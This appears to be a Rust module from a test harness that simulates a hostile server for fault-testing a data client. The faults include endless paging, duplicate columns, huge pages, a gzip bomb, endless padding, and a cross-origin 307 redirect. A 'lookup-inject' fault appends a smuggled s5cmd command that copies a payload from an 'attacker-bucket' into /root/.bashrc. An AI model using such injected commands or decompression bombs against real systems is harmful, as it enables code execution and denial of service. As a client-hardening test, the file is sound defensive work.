//! Hostile-server faults that rewrite a reply before it is streamed:
//! `pages-forever`, `dup-column`, `huge-page=MB`, `gzip-bomb=MB` (grammar in `faults`),
//! and the zero padding of `endless` / `extra-bytes=N`; and the replies of
//! `redirect-port=PORT` and `lookup-inject`.

use super::faults::FaultSpec;
use super::http::Payload;
use axum::body::Bytes;
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::Response;
use std::io::Write;

const MB: u64 = 1 << 20;

/// The payload after the rewriting faults of `spec`.
pub(super) fn rewrite(spec: &FaultSpec, payload: Payload, resp: &mut Response) -> Payload {
    let mut payload = payload;
    if spec.pages_forever {
        payload = map_bytes(payload, pages_forever);
    }
    if spec.dup_column {
        payload = map_bytes(payload, dup_column);
    }
    if let Some(mb) = spec.huge_page_mb {
        payload = map_bytes(payload, |b| huge_page(b, mb));
    }
    if let Some(mb) = spec.gzip_bomb_mb {
        resp.headers_mut()
            .insert(header::CONTENT_ENCODING, HeaderValue::from_static("gzip"));
        return Payload::Bytes(gzip_zeros(mb));
    }
    payload
}

fn map_bytes(p: Payload, f: impl FnOnce(Vec<u8>) -> Vec<u8>) -> Payload {
    match p {
        Payload::Bytes(b) => Payload::Bytes(f(b)),
        other => other,
    }
}

/// A Mashup reply whose `paging` claims one page more than this one.
fn pages_forever(body: Vec<u8>) -> Vec<u8> {
    let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(&body) else {
        return body;
    };
    let Some(p) = v.get_mut("paging").and_then(|p| p.as_object_mut()) else {
        return body;
    };
    let page = p
        .get("page")
        .and_then(serde_json::Value::as_u64)
        .unwrap_or(1);
    p.insert("pagesFiltered".into(), (page + 1).into());
    serde_json::to_vec(&v).unwrap_or(body)
}

/// A Mashup reply whose second field has the first field's name.
fn dup_column(body: Vec<u8>) -> Vec<u8> {
    let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(&body) else {
        return body;
    };
    let Some(fields) = v.get_mut("fields").and_then(|f| f.as_array_mut()) else {
        return body;
    };
    if fields.len() < 2 {
        return body;
    }
    let first = fields[0]["name"].clone();
    fields[1]["name"] = first;
    serde_json::to_vec(&v).unwrap_or(body)
}

/// `body` with `mb` megabytes of spaces before its closing brace.
fn huge_page(mut body: Vec<u8>, mb: u64) -> Vec<u8> {
    if body.last() != Some(&b'}') {
        return body;
    }
    body.pop();
    body.resize(body.len() + (mb * MB) as usize, b' ');
    body.push(b'}');
    body
}

/// A gzip stream expanding to `mb` megabytes of zeros.
fn gzip_zeros(mb: u64) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let block = vec![0u8; MB as usize];
    for _ in 0..mb {
        if gz.write_all(&block).is_err() {
            break;
        }
    }
    gz.finish().unwrap_or_default()
}

/// The next chunk of zero padding and what is left after it; `None` when
/// there is none (`u64::MAX` never runs out).
pub(super) fn pad(left: u64) -> Option<(Bytes, u64)> {
    if left == 0 {
        return None;
    }
    let n = left.min(64 * 1024);
    let rest = if left == u64::MAX { left } else { left - n };
    Some((Bytes::from(vec![0u8; n as usize]), rest))
}

/// `307` to `path` (path and query) on `127.0.0.1:port`: the same host,
/// another origin. 307 keeps the method and body, the worst case for a
/// client that would resend its token.
pub(super) fn redirect(port: u16, path: &str) -> Response {
    let mut r = Response::new(axum::body::Body::empty());
    *r.status_mut() = StatusCode::TEMPORARY_REDIRECT;
    if let Ok(v) = HeaderValue::from_str(&format!("http://127.0.0.1:{port}{path}")) {
        r.headers_mut().insert(header::LOCATION, v);
    }
    r
}

/// What `lookup-inject` adds to a `path_lookup` path: a second s5cmd command.
const LOOKUP_INJECTION: &str = "\ncp s3://attacker-bucket/payload /root/.bashrc";

/// A `path_lookup` path under `lookup-inject`: every URI gets one (a public
/// bucket path if it had none), ending in [`LOOKUP_INJECTION`].
pub(super) fn lookup_path(spec: &FaultSpec, path: Option<String>) -> Option<String> {
    if !spec.lookup_inject {
        return path;
    }
    let p = path.unwrap_or_else(|| "/jwst/public/injected.fits".into());
    Some(format!("{p}{LOOKUP_INJECTION}"))
}
